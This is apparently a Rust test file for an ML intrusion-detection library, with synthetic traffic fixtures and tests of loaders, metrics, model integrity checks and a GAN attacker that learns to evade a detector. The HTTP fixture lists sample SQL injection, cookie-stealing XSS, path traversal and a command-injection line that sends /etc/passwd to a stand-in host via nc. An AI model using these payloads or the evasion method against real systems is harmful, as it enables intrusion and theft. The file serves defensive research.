//! Loaders on generated fixtures (malformed rows counted, not dropped silently), metrics
//! against hand-computed values, detector files refused when from another version or
//! altered, and training that separates a generated attack pattern deterministically.
#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "test code: a failed lookup is a failed test"
)]

use secnet_ai::data::{Kind, load_http_params, load_nsl_kdd};
use secnet_ai::features::{Encoder, Group};
use secnet_ai::gan::{Attacker, BlackBox, GanConfig, Rows, Threat, functional};
use secnet_ai::metrics::{Confusion, auroc, threshold_at_fpr};
use secnet_ai::mlp::TrainConfig;
use secnet_ai::model::{Detector, ModelError};
use secnet_ai::rng::Rng;
use secnet_ai::{Augment, Family, evaluate, evasion, requests, split, train_detector};
use std::fmt::Write as _;

/// A generated NSL-KDD-shaped file: normal traffic and a SYN-flood-like attack (many
/// connections, S0 flag, high error rates), with some noise so it is not trivially separable.
fn nsl_fixture(rows: usize, seed: u64) -> String {
    let mut rng = Rng::new(seed);
    let mut out = String::new();
    for i in 0..rows {
        let attack = i % 3 == 0;
        let noisy = rng.uniform() < 0.05;
        let (flag, count, serror, label) = if attack != noisy {
            (
                "S0",
                100 + rng.below(400),
                0.9 + rng.uniform() * 0.1,
                if attack { "neptune" } else { "normal" },
            )
        } else {
            (
                "SF",
                1 + rng.below(20),
                rng.uniform() * 0.1,
                if attack { "neptune" } else { "normal" },
            )
        };
        let service = ["http", "ftp_data", "private", "smtp"][rng.below(4)];
        let src_bytes = if attack { 0 } else { 100 + rng.below(5000) };
        let mut fields: Vec<String> = vec![
            "0".into(),
            "tcp".into(),
            service.into(),
            flag.into(),
            src_bytes.to_string(),
            rng.below(10_000).to_string(),
        ];
        fields.extend((6..22).map(|_| "0".to_string()));
        fields.push(count.to_string());
        fields.push((count / 10).to_string());
        fields.push(format!("{serror:.2}"));
        fields.push(format!("{serror:.2}"));
        fields.extend((26..41).map(|_| format!("{:.2}", rng.uniform())));
        fields.push(label.into());
        fields.push(rng.below(21).to_string());
        writeln!(out, "{}", fields.join(",")).unwrap();
    }
    out
}

fn http_fixture(rows: usize, seed: u64) -> String {
    let mut rng = Rng::new(seed);
    let normal = [
        "madrid",
        "c/ caridad s/n",
        "28001",
        "juan.perez@example.com",
        "1442431887503330",
        "campello, el",
        "Visa",
    ];
    let attacks = [
        ("' or 1=1 --", "sqli"),
        ("1 union select password from users", "sqli"),
        ("<script>alert(document.cookie)</script>", "xss"),
        ("../../../../etc/passwd", "path-traversal"),
        ("; cat /etc/passwd | nc evil 80", "cmdi"),
    ];
    let mut out = String::from("\"payload\",\"length\",\"attack_type\",\"label\"\n");
    for i in 0..rows {
        let (payload, kind, label) = if i % 4 == 0 {
            let (p, k) = attacks[rng.below(attacks.len())];
            (format!("{p}{}", rng.below(100)), k, "anom")
        } else {
            (
                format!("{}{}", normal[rng.below(normal.len())], rng.below(100)),
                "norm",
                "norm",
            )
        };
        let escaped = payload.replace('"', "\"\"");
        writeln!(
            out,
            "\"{escaped}\",\"{}\",\"{kind}\",\"{label}\"",
            payload.len()
        )
        .unwrap();
    }
    out
}

#[test]
fn malformed_rows_are_counted_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("kdd.txt");
    let mut text = nsl_fixture(30, 1);
    text.push_str("0,tcp,http,SF,not-a-number,0\n");
    text.push_str(&"0,".repeat(45));
    text.push('\n');
    std::fs::write(&path, &text).unwrap();
    let loaded = load_nsl_kdd(&path).unwrap();
    assert_eq!(loaded.report.rows, 32);
    assert_eq!(loaded.report.kept, 30);
    assert_eq!(loaded.report.malformed, 2);
    assert!(
        loaded.report.examples[0].1.contains("columns"),
        "{:?}",
        loaded.report.examples
    );
    assert_eq!(
        loaded.report.categories["dos"] + loaded.report.categories["normal"],
        30
    );

    let bad_number = dir.path().join("bad.txt");
    let mut row: Vec<String> = nsl_fixture(1, 2)
        .trim()
        .split(',')
        .map(str::to_string)
        .collect();
    row[4] = "12abc".into();
    std::fs::write(&bad_number, row.join(",")).unwrap();
    let err = load_nsl_kdd(&bad_number).unwrap_err().to_string();
    assert!(
        err.contains("src_bytes") && err.contains("not a number"),
        "{err}"
    );

    let http = dir.path().join("http.csv");
    let mut text = http_fixture(20, 3);
    text.push_str("\"x\",\"1\",\"norm\",\"maybe\"\n");
    text.push_str("\"only\",\"two\"\n");
    std::fs::write(&http, &text).unwrap();
    let loaded = load_http_params(&http).unwrap();
    assert_eq!((loaded.report.kept, loaded.report.malformed), (20, 2));
    assert!(loaded.records.iter().any(|r| r.fields[0].contains('\'')));
}

#[test]
fn metrics_match_hand_computed_values() {
    let scores = [0.9, 0.8, 0.7, 0.6, 0.4, 0.3, 0.2, 0.1];
    let attack = [true, true, false, true, false, true, false, false];
    let c = Confusion::at(&scores, &attack, 0.5);
    assert_eq!((c.tp, c.fp, c.tn, c.fn_), (3, 1, 3, 1));
    assert!((c.precision() - 0.75).abs() < 1e-12);
    assert!((c.recall() - 0.75).abs() < 1e-12);
    assert!((c.fpr() - 0.25).abs() < 1e-12);
    // 16 attack/normal pairs; the attack scores higher in 13 of them.
    assert!((auroc(&scores, &attack) - 13.0 / 16.0).abs() < 1e-12);
    assert!((auroc(&[0.5, 0.5], &[true, false]) - 0.5).abs() < 1e-12);
    // At most 25% of 4 normal records flagged: one.
    let t = threshold_at_fpr(&scores, &attack, 0.25);
    assert_eq!(Confusion::at(&scores, &attack, t).fp, 1);
    let t = threshold_at_fpr(&scores, &attack, 0.0);
    assert_eq!(Confusion::at(&scores, &attack, t).fp, 0);
}

fn trained(kind: Kind, text: &str, seed: u64) -> (Detector, Vec<secnet_ai::data::Record>) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("data");
    std::fs::write(&path, text).unwrap();
    let loaded = secnet_ai::data::load(kind, &path).unwrap();
    let cfg = TrainConfig {
        epochs: 8,
        seed,
        ..TrainConfig::default()
    };
    let d = train_detector(
        kind,
        &loaded.records,
        "fixture",
        Augment::Jitter,
        Family::Mlp,
        &cfg,
    )
    .unwrap();
    (d, loaded.records)
}

#[test]
fn a_detector_learns_the_pattern_and_a_seed_gives_the_same_model() {
    let text = nsl_fixture(900, 4);
    let (a, records) = trained(Kind::NslKdd, &text, 7);
    let (b, _) = trained(Kind::NslKdd, &text, 7);
    assert!(
        a.to_bytes().unwrap() == b.to_bytes().unwrap(),
        "same seed, same model"
    );
    let report = evaluate(&a, &records);
    assert!(report.auroc > 0.9, "{report:?}");
    assert!(report.accuracy > 0.9, "{report:?}");
    assert!(report.per_category.contains_key("dos"));

    let (h, records) = trained(Kind::HttpParams, &http_fixture(600, 5), 7);
    let report = evaluate(&h, &records);
    assert!(report.f1 > 0.95, "{report:?}");
}

#[test]
fn detector_files_from_another_version_or_altered_are_refused() {
    let (d, _) = trained(Kind::NslKdd, &nsl_fixture(300, 6), 1);
    let bytes = d.to_bytes().unwrap();
    let read = Detector::from_bytes(&bytes).unwrap();
    assert!(read == d, "a detector reads back as written");
    assert_eq!(read.to_bytes().unwrap(), bytes);

    let other = String::from_utf8(bytes.clone()).unwrap().replacen(
        "secnet-detector 1",
        "secnet-detector 2",
        1,
    );
    assert!(matches!(
        Detector::from_bytes(other.as_bytes()),
        Err(ModelError::Version { .. })
    ));

    let mut altered = bytes.clone();
    let at = altered.len() / 2;
    altered[at] = if altered[at] == b'1' { b'2' } else { b'1' };
    let err = Detector::from_bytes(&altered).unwrap_err();
    assert!(
        matches!(err, ModelError::Tampered | ModelError::Malformed(_)),
        "{err}"
    );
    assert!(err.to_string().contains("altered") || err.to_string().contains("malformed"));

    assert!(matches!(
        Detector::from_bytes(b"hello"),
        Err(ModelError::NotAModel)
    ));
}

#[test]
fn the_baselines_train_and_read_back() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("data");
    std::fs::write(&path, nsl_fixture(600, 8)).unwrap();
    let loaded = secnet_ai::data::load(Kind::NslKdd, &path).unwrap();
    let cfg = TrainConfig {
        epochs: 8,
        ..TrainConfig::default()
    };
    for family in [Family::Logreg, Family::Forest, Family::Iforest] {
        let d = train_detector(
            Kind::NslKdd,
            &loaded.records,
            "fixture",
            Augment::None,
            family,
            &cfg,
        )
        .unwrap();
        let report = evaluate(&d, &loaded.records);
        assert!(report.auroc > 0.8, "{family}: {report:?}");
        let back = Detector::from_bytes(&d.to_bytes().unwrap()).unwrap();
        assert!(back == d, "{family} reads back as written");
    }
}

fn records(kind: Kind, text: &str) -> Vec<secnet_ai::data::Record> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("data");
    std::fs::write(&path, text).unwrap();
    secnet_ai::data::load(kind, &path).unwrap().records
}

#[test]
fn every_arm_adds_the_same_number_of_rows_and_is_deterministic() {
    let recs = records(Kind::NslKdd, &nsl_fixture(600, 9));
    let cfg = TrainConfig {
        epochs: 4,
        ..TrainConfig::default()
    };
    let mut rows = Vec::new();
    for arm in [
        Augment::None,
        Augment::Dup,
        Augment::Jitter,
        Augment::Gan,
        Augment::AdvGan,
    ] {
        let d = train_detector(Kind::NslKdd, &recs, "fixture", arm, Family::Mlp, &cfg).unwrap();
        assert_eq!(d.provenance.augment, arm.to_string());
        rows.push(d.provenance.train_rows);
        if matches!(arm, Augment::Gan | Augment::AdvGan) {
            let again =
                train_detector(Kind::NslKdd, &recs, "fixture", arm, Family::Mlp, &cfg).unwrap();
            assert!(again == d, "{arm}: same seed, same detector");
        }
    }
    let base = rows[0];
    assert!(rows[1] > base, "{rows:?}");
    assert!(rows.iter().skip(1).all(|r| *r == rows[1]), "{rows:?}");
    for s in ["none", "dup", "jitter", "gan", "adv-gan"] {
        assert_eq!(s.parse::<Augment>().unwrap().to_string(), s);
    }
    assert!("smote".parse::<Augment>().unwrap_err().contains("adv-gan"));
}

#[test]
fn the_attacker_changes_only_what_does_not_change_the_attack() {
    let recs = records(Kind::NslKdd, &nsl_fixture(600, 10));
    let (train, _) = split(&recs, 1);
    let encoder = Encoder::fit(Kind::NslKdd, &train);
    let groups = encoder.groups();
    assert_eq!(groups.len(), encoder.dim());
    let x = encoder.encode_all(&train);
    let threat = Threat::new(&encoder, &x);
    // DoS keeps its intrinsic and time-based traffic features; R2L its content.
    let dos = threat.mask("dos");
    let r2l = threat.mask("r2l");
    for ((g, d), r) in groups.iter().zip(&dos).zip(&r2l) {
        assert_eq!(*d == 0.0, functional("dos").contains(g), "{g:?}");
        assert_eq!(*r == 0.0, functional("r2l").contains(g), "{g:?}");
    }
    assert!(dos.contains(&1.0) && dos.contains(&0.0));

    let dim = encoder.dim();
    let cats: Vec<String> = train.iter().map(|r| r.category.clone()).collect();
    let (ax, ac): (Vec<f32>, Vec<String>) = {
        let mut ax = Vec::new();
        let mut ac = Vec::new();
        for (row, c) in x.chunks_exact(dim).zip(&cats) {
            if c != "normal" {
                ax.extend_from_slice(row);
                ac.push(c.clone());
            }
        }
        (ax, ac)
    };
    let nx: Vec<f32> = x
        .chunks_exact(dim)
        .zip(&cats)
        .filter(|(_, c)| *c == "normal")
        .flat_map(|(r, _)| r.to_vec())
        .collect();
    let nc = vec!["normal".to_string(); nx.len() / dim];
    // A detector that looks only at a mutable column: the attacker learns to move it.
    let watched = groups
        .iter()
        .position(|g| *g == Group::HostTraffic)
        .unwrap();
    let score = move |r: &[f32]| if r[watched] > 0.0 { 0.9 } else { 0.1 };
    let target = BlackBox {
        score: &score,
        threshold: 0.5,
    };
    let attacks = Rows {
        x: &ax,
        categories: &ac,
        dim,
    };
    let cfg = GanConfig {
        epochs: 60,
        batch: 32,
        ..GanConfig::default()
    };
    let attacker = Attacker::train(
        &target,
        &threat,
        attacks,
        Rows {
            x: &nx,
            categories: &nc,
            dim,
        },
        &cfg,
    )
    .unwrap();
    let adversarial = attacker.perturb_all(attacks, 3);
    for ((orig, adv), c) in ax
        .chunks_exact(dim)
        .zip(adversarial.chunks_exact(dim))
        .zip(&ac)
    {
        let mask = threat.mask(c);
        for (((o, a), m), g) in orig.iter().zip(adv).zip(&mask).zip(&groups) {
            if *m == 0.0 {
                assert_eq!(o, a, "{g:?} is functional for {c} and must not move");
            }
            assert!(a.is_finite());
        }
    }
    let e = attacker.evasion(&target, attacks, 3);
    assert_eq!(e.attacks, ac.len());
    assert!(e.detected > 0, "{e:?}");
    assert!(
        e.evasion_rate > 0.5,
        "the attacker learns to move the watched column: {e:?}"
    );
    assert!(e.detected_adversarial <= e.attacks && e.detected <= e.attacks);
}

#[test]
fn http_attackers_may_only_add_characters() {
    let recs = records(Kind::HttpParams, &http_fixture(300, 11));
    let encoder = Encoder::fit(Kind::HttpParams, &recs);
    let x = encoder.encode_all(&recs);
    let threat = Threat::new(&encoder, &x);
    let groups = encoder.groups();
    let row = &x[..encoder.dim()];
    let shrink = vec![-5.0f32; encoder.dim()];
    let moved = threat.apply(row, &shrink, &threat.mask("sqli"));
    for ((g, before), after) in groups.iter().zip(row).zip(&moved) {
        match g {
            Group::Grams | Group::Chars | Group::Length | Group::Tokens => {
                assert_eq!(before, after, "{g:?} cannot shrink")
            }
            _ => {}
        }
    }
}

#[test]
fn a_fresh_attacker_is_measured_on_attacks_it_never_saw() {
    let recs = records(Kind::NslKdd, &nsl_fixture(600, 12));
    let cfg = TrainConfig {
        epochs: 4,
        ..TrainConfig::default()
    };
    let d = train_detector(
        Kind::NslKdd,
        &recs,
        "fixture",
        Augment::None,
        Family::Mlp,
        &cfg,
    )
    .unwrap();
    let (known, unseen) = split(&recs, 2);
    let e = evasion(&d, &known, &unseen, 2).unwrap();
    assert_eq!(e.attacks, unseen.iter().filter(|r| r.attack).count());
    assert_eq!(e, evasion(&d, &known, &unseen, 2).unwrap(), "deterministic");
}

#[test]
fn access_requests_load_encode_and_train() {
    let mut text = requests::header();
    text.push('\n');
    for r in requests::generate(2000, 3) {
        text.push_str(&requests::to_row(&r));
        text.push('\n');
    }
    text.push_str("1,2,3,4,99,treatment,normal,normal\n");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("requests.csv");
    std::fs::write(&path, &text).unwrap();
    let loaded = secnet_ai::data::load(Kind::AccessRequests, &path).unwrap();
    assert_eq!(loaded.report.rows, 2001);
    assert_eq!(loaded.report.malformed, 1);
    assert!(loaded.report.examples[0].1.contains("hour"));
    let cfg = TrainConfig {
        epochs: 6,
        ..TrainConfig::default()
    };
    let d = train_detector(
        Kind::AccessRequests,
        &loaded.records,
        "fixture",
        Augment::None,
        Family::Mlp,
        &cfg,
    )
    .unwrap();
    assert_eq!(d.encoder.groups().len(), d.encoder.dim());
    assert!(
        d.provenance.validation.auroc > 0.9,
        "{:?}",
        d.provenance.validation
    );
}
